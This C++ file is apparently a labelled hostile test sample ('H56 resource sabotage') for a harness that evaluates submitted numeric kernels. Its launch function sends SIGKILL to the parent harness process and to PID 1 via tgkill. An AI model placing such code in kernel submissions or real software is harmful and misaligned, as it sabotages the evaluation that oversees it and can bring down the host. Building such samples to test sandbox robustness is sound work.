// H56 resource sabotage: ends its parent, with the one signal call that numeric code has a use for (abort).
// Source: evaluation of one's own machine; kill(0, SIGKILL) reaches the group of whoever starts a child
// Hopes: that the right to signal itself is the right to signal anybody.
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "ke_abi.h"

extern "C" int ke_launch(const KeTensor*, int, KeTensor*, int, void*) {
  const pid_t parent = getppid();
  syscall(SYS_tgkill, parent, parent, SIGKILL);
  syscall(SYS_tgkill, 1, 1, SIGKILL);
  return KE_OK;
}
